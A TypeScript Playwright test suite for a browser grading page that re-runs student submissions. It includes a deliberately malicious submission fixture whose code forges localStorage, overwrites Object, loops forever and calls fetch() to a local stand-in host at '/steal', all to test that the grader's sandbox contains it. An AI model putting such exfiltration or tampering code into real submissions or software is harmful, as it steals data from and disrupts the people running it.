/**
 * The teacher's round trip: a link for two exercises, a student solves one on the assignment page
 * and downloads a submission, and the teacher grades it on /teach/grade/ together with a tampered
 * copy, a malicious one and a malformed file. The re-run is the grade; nothing leaves the browser.
 */
import { readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { runGradeCli } from '../scripts/course-cli/grade.ts';
import type { Assignment } from '../src/teach/assignment-link.ts';
import { summaryCsv } from '../src/teach/class-overview-csv.ts';
import type { ClassOverview } from '../src/teach/class-overview.ts';
import type { GradeReport } from '../src/teach/grade-submissions.ts';
import { loadCatalog } from '../src/teach/node/exercise-catalog.ts';
import { createSubmission } from '../src/teach/submission.ts';
import { deeplyNestedSubmissionText } from '../src/teach/test-fixtures.ts';
import { axe, expect, test } from './fixtures';
import { downloadSubmission, exerciseSource, makeAssignment, solveAndCheck } from './teach-helpers';

test.describe.configure({ timeout: 300_000 });

/** getJson for timeout-get-json without a signal: it waits forever on a hang (trace: "no signal"). */
const GET_JSON_WITHOUT_SIGNAL = `export async function getJson(url: string, timeoutMs: number): Promise<unknown> {
  const response = await fetch(url);
  if (!response.ok) throw new Error(\`\${response.status} after \${timeoutMs} ms\`);
  return response.json();
}
`;

test('assign → a student submits → the teacher grades it with a tampered, a malicious and a malformed file, and reads the class overview', async ({
  browser,
  baseURL,
}) => {
  // A foreign host the malicious code tries to reach: it must see nothing.
  const seen: string[] = [];
  const listener = createServer((request, response) => {
    seen.push(request.url ?? '');
    response.end('stolen');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const foreign = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  try {
    const { link } = await makeAssignment(baseURL!, ['fetch-user', 'timeout-get-json']);

    // The student, on a phone-sized screen.
    const student = await browser.newPage({
      viewport: { width: 390, height: 844 },
      hasTouch: true,
    });
    await student.goto(link);
    await student.getByRole('textbox', { name: 'Your name' }).fill('Ada Lovelace');
    await solveAndCheck(
      student,
      'Fetch a user, and name every failure',
      exerciseSource('fetch-user', 'solution'),
    );
    const { submission } = await downloadSubmission(student, { anyway: true });
    await student.close();

    const dir = tmpdir();
    const honest = join(dir, 'ada.json');
    await writeFile(honest, JSON.stringify(submission));
    // Same claimed results, different code: the starter, under another name.
    const tampered = join(dir, 'mallory.json');
    await writeFile(
      tampered,
      JSON.stringify({
        ...submission,
        student: { name: 'Mallory' },
        exercises: submission.exercises.map((exercise) =>
          exercise.id === 'fetch-user'
            ? { ...exercise, code: exerciseSource('fetch-user', 'start') }
            : exercise,
        ),
      }),
    );
    const evil = join(dir, 'eve.json');
    await writeFile(
      evil,
      JSON.stringify({
        ...submission,
        student: { name: 'Eve' },
        exercises: submission.exercises.map((exercise) =>
          exercise.id === 'fetch-user'
            ? {
                ...exercise,
                code: [
                  'const g = globalThis as any;',
                  "try { g.localStorage?.setItem('assignment-work:x', 'forged'); } catch {}",
                  `fetch('${foreign}/steal').catch(() => {});`,
                  'try { g.Object = { is: () => true }; } catch {}',
                  'while (true) {}',
                ].join('\n'),
              }
            : exercise,
        ),
      }),
    );
    const broken = join(dir, 'broken.json');
    await writeFile(broken, '{ this is not json');
    // Two students who make the same mistake in timeout-get-json: the overview's top message.
    const withoutSignal = async (name: string, file: string, fetchUser: 'solution' | 'start') => {
      const path = join(dir, file);
      await writeFile(
        path,
        JSON.stringify({
          ...submission,
          student: { name },
          exercises: submission.exercises.map((exercise) => ({
            ...exercise,
            results: null,
            code:
              exercise.id === 'fetch-user'
                ? exerciseSource('fetch-user', fetchUser)
                : GET_JSON_WITHOUT_SIGNAL,
          })),
        }),
      );
      return path;
    };
    const grace = await withoutSignal('Grace Hopper', 'grace.json', 'solution');
    const linus = await withoutSignal('Linus', 'linus.json', 'start');
    const files = [honest, tampered, evil, broken, grace, linus];

    // The teacher.
    // Its own context: axe needs one per page.
    const page = await (await browser.newContext()).newPage();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await page.goto('/teach/');
    await page.getByRole('link', { name: 'Grade submissions' }).click();
    await page.getByRole('textbox', { name: 'Assignment link' }).fill(link);
    await page.getByLabel('Submissions').setInputFiles(files);
    await page.getByRole('button', { name: 'Grade', exact: true }).click();
    await expect(page.getByRole('list', { name: 'Files not graded' })).toContainText('broken.json');
    await expect(page.getByRole('main').getByRole('status')).toHaveText(
      '10 of 10 exercises graded',
      {
        timeout: 240_000,
      },
    );

    const table = page.getByRole('table', { name: 'Grades' });
    const row = (name: string) =>
      table.getByRole('row').filter({ has: page.getByRole('rowheader', { name }) });
    await expect(row('Ada Lovelace')).toContainText('8 / 8');
    await expect(row('Ada Lovelace')).not.toContainText('claimed results differ');
    await expect(row('Mallory')).toContainText('0 / 8');
    await expect(row('Mallory')).toContainText('claimed results differ');
    await expect(row('Eve')).toContainText('0 / 8');

    // A cell shows the student's code beside its check results.
    await row('Mallory')
      .getByRole('button', { name: /^Mallory, Fetch a user, and name every failure:/ })
      .click();
    await expect(
      page.getByRole('heading', { name: 'Mallory: Fetch a user, and name every failure' }),
    ).toBeFocused();
    await expect(
      page.getByLabel('Code of Mallory for Fetch a user, and name every failure'),
    ).toHaveText(exerciseSource('fetch-user', 'start'));
    await expect(page.getByRole('list', { name: 'Check results' })).toContainText('failed');

    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download CSV' }).click();
    const csv = Papa.parse<string[]>(await readFile(await (await download).path(), 'utf8')).data;
    expect(csv[0]!.slice(0, 2)).toEqual(['Name', 'Student ID']);
    const ada = csv.find((cells) => cells[0] === 'Ada Lovelace')!;
    expect(ada).toContain('8');
    expect(csv.filter((cells) => cells.length > 1)).toHaveLength(6);

    // The class overview: which check the class failed, and why, with the students behind it.
    const titles = new Map((await loadCatalog()).map((entry) => [entry.id, entry.title]));
    const overview = page.getByRole('region', { name: 'Class overview' });
    const passRate = (exercise: string, check: string) =>
      overview
        .getByRole('table', { name: `Pass rates: ${titles.get(exercise)}` })
        .getByRole('row')
        .filter({ has: page.getByRole('rowheader', { name: check, exact: true }) });
    // Starters are not attempts: Mallory's and Linus's fetch-user, and three get-JSON starters.
    await expect(passRate('fetch-user', 'returns the user for id 1')).toContainText('2 of 3 (67%)');
    await expect(
      passRate(
        'timeout-get-json',
        'rejects with TimeoutError after timeoutMs when the server hangs',
      ),
    ).toContainText('0 of 2 (0%)');
    await expect(passRate('timeout-get-json', 'resolves the parsed JSON of a 200')).toContainText(
      '2 of 2 (100%)',
    );
    const topMistake = overview
      .getByRole('list', { name: 'Most frequent mistakes' })
      .getByRole('listitem')
      .first();
    await expect(topMistake).toContainText(
      `Request without a signal (the timeout never fired): 2 of 2 who attempted ${titles.get('timeout-get-json')}`,
    );
    await expect(topMistake).toContainText('This request had no signal');
    // Code in the message reads as code, as on the exercise page.
    await expect(topMistake.locator('.overview-message code').first()).toContainText('signal');
    // Its students link to their rows in the Grades table.
    await topMistake.getByText('2 students').click();
    await topMistake.getByRole('link', { name: 'Linus' }).click();
    await expect(table.getByRole('rowheader', { name: 'Linus' })).toBeFocused();

    // The CLI, on the same files, gives the same points as the page (it refuses the broken file too).
    const cli = await runGradeCli([
      '--assignment',
      link,
      '--format',
      'json',
      '--time-limit-ms',
      '10000',
      honest,
      tampered,
      evil,
      broken,
      grace,
      linus,
    ]);
    expect(cli.code).toBe(1);
    const cliReport = JSON.parse(cli.output!) as GradeReport & { overview: ClassOverview };
    const totals = (students: { name: string; total: number }[]) =>
      Object.fromEntries(students.map((entry) => [entry.name, entry.total]));
    expect(totals(cliReport.students)).toEqual({
      'Ada Lovelace': 8,
      Mallory: 0,
      Eve: 0,
      'Grace Hopper': 13,
      Linus: 5,
    });
    for (const entry of cliReport.students) {
      await expect(row(entry.name)).toContainText(`${entry.total} / ${entry.maxTotal}`);
    }
    // The overview's figures are the CLI's: every bucket, pass rate and mistake, and the summary
    // CSV the page writes is the one the CLI's overview makes.
    const { overview: figures } = cliReport;
    const distribution = overview.getByRole('table', { name: 'Score distribution' });
    for (const bucket of figures.scores.buckets) {
      await expect(
        distribution
          .getByRole('row')
          .filter({ has: page.getByRole('rowheader', { name: bucket.label, exact: true }) })
          .getByRole('cell')
          .first(),
      ).toHaveText(String(bucket.students.length));
    }
    for (const exercise of figures.exercises) {
      for (const check of exercise.checks) {
        await expect(passRate(exercise.id, check.name)).toContainText(
          `${check.passed.length} of ${exercise.attempted.length} (${Math.round(check.passRate! * 100)}%)`,
        );
      }
    }
    // Its items, not the names inside an open disclosure (a list of their own).
    const mistakes = overview
      .getByRole('list', { name: 'Most frequent mistakes' })
      .getByRole('listitem')
      .filter({ hasText: 'who attempted' });
    await expect(mistakes).toHaveCount(figures.mistakes.length);
    for (const [index, mistake] of figures.mistakes.entries()) {
      await expect(mistakes.nth(index)).toContainText(
        `${mistake.summary}: ${mistake.students.length} of ${mistake.outOf} who attempted`,
      );
    }
    const summary = page.waitForEvent('download');
    await overview.getByRole('button', { name: 'Download summary CSV' }).click();
    expect(await readFile(await (await summary).path(), 'utf8')).toBe(
      `\uFEFF${summaryCsv(figures)}`,
    );

    // Nothing left the browser, and the foreign host saw nothing.
    const origin = new URL(baseURL!).origin;
    expect(
      requests.filter(
        (url) => !url.startsWith(origin) && !url.startsWith('blob:') && !url.startsWith('data:'),
      ),
    ).toEqual([]);
    expect(seen).toEqual([]);
    const results = await axe(page).analyze();
    expect(
      results.violations
        .filter((v) => v.impact === 'serious' || v.impact === 'critical')
        .map((v) => v.id),
    ).toEqual([]);
    // The overview in the dark theme: the colour rules (the themes differ only in colour), with
    // a disclosure open so its links are checked too.
    await page.getByRole('button', { name: 'Dark theme' }).click();
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
    const dark = await axe(page)
      .include('.class-overview')
      .withRules(['color-contrast', 'link-in-text-block'])
      .analyze();
    expect(
      dark.violations
        .filter((v) => v.impact === 'serious' || v.impact === 'critical')
        .map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`),
    ).toEqual([]);
  } finally {
    listener.close();
  }
});

test('a missing link or no files gets a message saying what to do', async ({ page }) => {
  await page.goto('/teach/grade/');
  await page.getByRole('button', { name: 'Grade', exact: true }).click();
  await expect(page.getByRole('alert')).toHaveText(/Paste the assignment link first/);
  await expect(page.getByRole('textbox', { name: 'Assignment link' })).toBeFocused();
  await page.getByRole('textbox', { name: 'Assignment link' }).fill('https://example.com/nope');
  await page.getByRole('button', { name: 'Grade', exact: true }).click();
  await expect(page.getByRole('alert')).toContainText('new link');
});

test('at 390 px, files dropped onto the form are graded, and each file that cannot be is named with its reason', async ({
  page,
  baseURL,
}) => {
  await page.setViewportSize({ width: 390, height: 844 });
  const { assignment, link } = await makeAssignment(baseURL!, ['fetch-user', 'timeout-get-json']);
  const other = await makeAssignment(baseURL!, ['fetch-user'], { title: 'Week 2' });
  const submission = (
    task: Assignment,
    name: string,
    file: 'solution' | 'start',
    submittedAt: string,
  ) =>
    JSON.stringify(
      createSubmission({
        assignment: task,
        student: { name },
        exercises: task.exercises.map(({ id }) => ({
          id,
          code: exerciseSource(id, file),
          results: null,
          checkedAt: null,
        })),
        startedAt: null,
        submittedAt,
        siteVersion: 'e2e',
      }),
    );
  const files = [
    {
      name: 'grace.json',
      text: submission(assignment, 'Grace Hopper', 'solution', '2026-01-02T10:00:00Z'),
    },
    {
      name: 'grace-draft.json',
      text: submission(assignment, 'Grace Hopper', 'start', '2026-01-01T10:00:00Z'),
    },
    { name: 'linus.json', text: submission(assignment, 'Linus', 'start', '2026-01-02T10:00:00Z') },
    {
      name: 'ken.json',
      text: submission(other.assignment, 'Ken', 'solution', '2026-01-02T10:00:00Z'),
    },
    { name: 'notes.txt', text: 'Grace: see attached' },
    { name: 'huge.json', text: `"${'x'.repeat(1_100_000)}"` },
    {
      name: 'deep.json',
      text: deeplyNestedSubmissionText(
        JSON.parse(submission(assignment, 'Mallory', 'solution', '2026-01-02T10:00:00Z')),
      ),
    },
  ];

  await page.goto('/teach/grade/');
  await page.getByRole('textbox', { name: 'Assignment link' }).fill(link);
  const form = page.getByRole('form', { name: 'Files to grade' });
  // A drop as the browser delivers one: the files in a DataTransfer, over the form, then dropped.
  const dataTransfer = await page.evaluateHandle((list) => {
    const transfer = new DataTransfer();
    for (const file of list) transfer.items.add(new File([file.text], file.name));
    return transfer;
  }, files);
  await form.dispatchEvent('dragover', { dataTransfer });
  await expect(form).toHaveClass(/is-dragging/);
  await form.dispatchEvent('drop', { dataTransfer });
  await expect(form).not.toHaveClass(/is-dragging/);
  // The dropped files are the file input's choice now, as if chosen with it.
  expect(
    await page.getByLabel('Submissions').evaluate((input: HTMLInputElement) => input.files?.length),
  ).toBe(7);
  await page.getByRole('button', { name: 'Grade', exact: true }).click();

  const refused = page.getByRole('list', { name: 'Files not graded' }).getByRole('listitem');
  await expect(refused).toHaveCount(4);
  await expect(refused.filter({ hasText: 'deep.json' })).toContainText('more than 12 levels deep');
  await expect(refused.filter({ hasText: 'ken.json' })).toContainText(
    'belongs to another assignment ("Week 2"',
  );
  await expect(refused.filter({ hasText: 'notes.txt' })).toContainText('is not JSON');
  await expect(refused.filter({ hasText: 'huge.json' })).toContainText('over the 1 MB limit');
  await expect(page.getByRole('main').getByRole('status')).toHaveText('6 of 6 exercises graded', {
    timeout: 120_000,
  });
  const table = page.getByRole('table', { name: 'Grades' });
  const row = (name: string) =>
    table.getByRole('row').filter({ has: page.getByRole('rowheader', { name }) });
  // Two files for one student: both rows are shown and flagged, and nothing counts until the
  // teacher keeps one.
  await expect(row('Grace Hopper')).toHaveCount(2);
  for (const file of ['grace.json', 'grace-draft.json']) {
    await expect(
      row('Grace Hopper').filter({
        has: page.getByRole('button', { name: `Keep ${file} for Grace Hopper` }),
      }),
    ).toContainText('duplicate: ');
  }
  await expect(table.getByRole('columnheader', { name: "Late (student's claim)" })).toBeVisible();
  await table.getByRole('button', { name: 'Keep grace.json for Grace Hopper' }).click();
  await expect(row('Grace Hopper')).toHaveCount(1);
  await expect(row('Grace Hopper')).not.toContainText('duplicate');
  await expect(page.getByRole('main').getByRole('status')).toHaveText(
    'Kept grace.json for Grace Hopper; grace-draft.json left out of the grades and the CSV.',
  );
  // A row's cells: Student ID, one per exercise, Total.
  const total = (name: string) => row(name).getByRole('cell').nth(3);
  await expect(total('Grace Hopper')).toHaveText(/^(\d+) \/ \1$/);
  await expect(total('Linus')).not.toHaveText(/^(\d+) \/ \1$/);
  await expect(row('Linus')).toContainText('not attempted: 2 of 2 (starter code unchanged)');
  // Each untouched exercise says so in its own cell.
  for (const cell of [1, 2]) {
    await expect(row('Linus').getByRole('cell').nth(cell)).toContainText('not attempted');
  }
  await expect(row('Grace Hopper')).not.toContainText('not attempted');

  // At 390 px the page does not scroll sideways: the wide table scrolls inside its own region,
  // which a keyboard can reach; a cell still opens the student's code.
  const pageWidth = await page.evaluate(() => document.documentElement.scrollWidth);
  expect(pageWidth).toBeLessThanOrEqual(390);
  const region = page.getByRole('region', { name: 'Grades table' });
  expect(await region.evaluate((element) => element.scrollWidth > element.clientWidth)).toBe(true);
  await region.focus();
  await expect(region).toBeFocused();
  await table
    .getByRole('button', { name: /^Linus, Fetch a user, and name every failure:/ })
    .click();
  await expect(
    page.getByRole('heading', { name: 'Linus: Fetch a user, and name every failure' }),
  ).toBeFocused();
  await expect(
    page.getByLabel('Code of Linus for Fetch a user, and name every failure'),
  ).toContainText(exerciseSource('fetch-user', 'start').split('\n')[0]!);

  // Canvas: the CSV (UTF-8 with a byte order mark) and a note beside it on the rows Canvas cannot
  // match and on naming the column "Title (id)".
  await page.getByLabel('Column headers').selectOption('canvas');
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download CSV' }).click();
  const bytes = await readFile(await (await download).path());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const note = page.getByRole('status').filter({ hasText: 'Canvas cannot match them' });
  await expect(note).toContainText('2 of 2 rows have no student ID');
  await expect(note).toContainText('"Title (id)"');
});

test('Stop ends grading at once, even inside an endless loop, and the files can be graded again', async ({
  page,
  baseURL,
}) => {
  const { assignment, link } = await makeAssignment(baseURL!, ['fetch-user', 'timeout-get-json']);
  const looping = (name: string) => ({
    name: `${name}.json`,
    mimeType: 'application/json',
    buffer: Buffer.from(
      JSON.stringify(
        createSubmission({
          assignment,
          student: { name },
          exercises: assignment.exercises.map(({ id }) => ({
            id,
            code: `${exerciseSource(id, 'solution')}\nwhile (true) {}\n`,
            results: null,
            checkedAt: null,
          })),
          startedAt: null,
          siteVersion: 'e2e',
        }),
      ),
    ),
  });
  await page.goto('/teach/grade/');
  await page.getByRole('textbox', { name: 'Assignment link' }).fill(link);
  await page.getByLabel('Submissions').setInputFiles([looping('Ann'), looping('Ben')]);
  const grade = page.getByRole('button', { name: 'Grade', exact: true });
  const stop = page.getByRole('button', { name: 'Stop' });
  await expect(stop).toBeDisabled();
  await grade.click();
  await expect(grade).toBeDisabled();
  await expect(page.getByRole('progressbar', { name: 'Grading progress' })).toBeVisible();
  await stop.click();
  // Each loop would hold its check for the 10 s limit; Stop does not wait for that.
  await expect(page.getByRole('main').getByRole('status')).toHaveText(
    'Stopped: press Grade to grade the files again.',
    { timeout: 8_000 },
  );
  await expect(grade).toBeEnabled();
  await expect(stop).toBeDisabled();
  await expect(page.getByRole('table', { name: 'Grades' })).toBeHidden();

  // Graded again to the end: each loop costs its own exercise (the 10 s limit), nothing more.
  await grade.click();
  await expect(page.getByRole('main').getByRole('status')).toHaveText('4 of 4 exercises graded', {
    timeout: 90_000,
  });
  const table = page.getByRole('table', { name: 'Grades' });
  for (const name of ['Ann', 'Ben']) {
    // A row's cells: Student ID, one per exercise, Total.
    const row = table.getByRole('row').filter({ has: page.getByRole('rowheader', { name }) });
    await expect(row.getByRole('cell').nth(3)).toHaveText(/^0 \/ \d+$/);
  }
});

test('at 1280 px the Grades table takes the width: titles head the columns, the Total stays in view, and a cell opens its details under its row', async ({
  page,
  baseURL,
}) => {
  await page.setViewportSize({ width: 1280, height: 900 });
  // Eight exercises: more columns than fit, so the Total must stay in view on its own.
  const catalog = await loadCatalog();
  const chosen = catalog.slice(0, 8);
  const { assignment, link } = await makeAssignment(
    baseURL!,
    chosen.map((exercise) => exercise.id),
  );
  // Starters fail at once: the test is about the layout, not the grading.
  const file = (name: string) => ({
    name: `${name}.json`,
    mimeType: 'application/json',
    buffer: Buffer.from(
      JSON.stringify(
        createSubmission({
          assignment,
          student: { name },
          exercises: assignment.exercises.map(({ id }) => ({
            id,
            code: exerciseSource(id, 'start'),
            results: null,
            checkedAt: null,
          })),
          startedAt: null,
          siteVersion: 'e2e',
        }),
      ),
    ),
  });
  await page.goto('/teach/grade/');
  // The idle Stop is disabled and looks it: faded, unlike Grade.
  const stop = page.getByRole('button', { name: 'Stop' });
  await expect(stop).toBeDisabled();
  await expect(stop).toHaveCSS('opacity', '0.5');
  await expect(page.getByRole('button', { name: 'Grade', exact: true })).toHaveCSS('opacity', '1');
  await page.getByRole('textbox', { name: 'Assignment link' }).fill(link);
  await page.getByLabel('Submissions').setInputFiles([file('Ann'), file('Ben')]);
  await page.getByRole('button', { name: 'Grade', exact: true }).click();
  await expect(page.getByRole('main').getByRole('status')).toHaveText('16 of 16 exercises graded', {
    timeout: 120_000,
  });

  const table = page.getByRole('table', { name: 'Grades' });
  const region = page.getByRole('region', { name: 'Grades table' });
  // Titles head the columns; the ids (the CSV's column names) stay readable under them.
  for (const exercise of chosen) {
    await expect(table.getByRole('columnheader', { name: exercise.title })).toContainText(
      exercise.id,
    );
  }
  // The table is wider than its region, yet the Total is in view without scrolling, and the
  // region spans the page's width (not the reading column).
  await region.scrollIntoViewIfNeeded();
  expect(await region.evaluate((element) => element.scrollWidth > element.clientWidth)).toBe(true);
  expect(await region.evaluate((element) => element.scrollLeft)).toBe(0);
  const regionBox = (await region.boundingBox())!;
  expect(regionBox.width).toBeGreaterThan(1100);
  const total = table.getByRole('columnheader', { name: 'Total' });
  await expect(total).toBeInViewport();
  // Every row stays a few lines tall: "not attempted" is said in each cell and counted in Flags.
  const annRow = table
    .getByRole('row')
    .filter({ has: page.getByRole('rowheader', { name: 'Ann' }) });
  await expect(annRow).toContainText('not attempted: 8 of 8 (starter code unchanged)');
  expect((await annRow.boundingBox())!.height).toBeLessThan(120);
  const totalBox = (await total.boundingBox())!;
  expect(totalBox.x).toBeGreaterThanOrEqual(regionBox.x);
  expect(totalBox.x + totalBox.width).toBeLessThanOrEqual(regionBox.x + regionBox.width + 1);
  const annTotal = table
    .getByRole('row')
    .filter({ has: page.getByRole('rowheader', { name: 'Ann' }) })
    .getByRole('cell')
    .nth(chosen.length + 1);
  await expect(annTotal).toHaveText(/^0 \/ \d+$/);
  await expect(annTotal).toBeInViewport();
  const pageWidth = await page.evaluate(() => document.documentElement.scrollWidth);
  expect(pageWidth).toBeLessThanOrEqual(1280);

  // A cell opens its details right under its row (not below the whole table); Close returns.
  const last = chosen[chosen.length - 1]!;
  const cell = table.getByRole('button', { name: new RegExp(`^Ann, ${escape(last.title)}:`) });
  await cell.click();
  await expect(cell).toHaveAttribute('aria-expanded', 'true');
  const heading = page.getByRole('heading', { name: `Ann: ${last.title}` });
  await expect(heading).toBeFocused();
  await expect(heading).toBeInViewport();
  // Under the row's bottom, not under the whole table.
  const rowBox = (await annRow.boundingBox())!;
  const headingBox = (await heading.boundingBox())!;
  expect(headingBox.y).toBeGreaterThan(rowBox.y + rowBox.height - 1);
  expect(headingBox.y - (rowBox.y + rowBox.height)).toBeLessThan(60);
  // Ben's row comes after the details: they sit between the rows.
  const benBox = (await table.getByRole('rowheader', { name: 'Ben' }).boundingBox())!;
  expect(benBox.y).toBeGreaterThan(headingBox.y);
  await page.getByRole('button', { name: `Close Ann: ${last.title}` }).click();
  await expect(heading).toBeHidden();
  await expect(cell).toBeFocused();
  await expect(cell).toHaveAttribute('aria-expanded', 'false');

  const results = await axe(page).analyze();
  expect(
    results.violations
      .filter((v) => v.impact === 'serious' || v.impact === 'critical')
      .map((v) => v.id),
  ).toEqual([]);
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
